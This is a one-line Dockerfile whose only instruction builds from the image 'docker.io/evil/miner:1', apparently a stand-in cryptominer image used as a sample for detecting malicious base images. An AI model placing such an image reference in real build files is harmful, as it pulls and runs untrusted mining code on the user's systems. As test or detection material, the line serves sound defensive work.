FROM docker.io/evil/miner:1
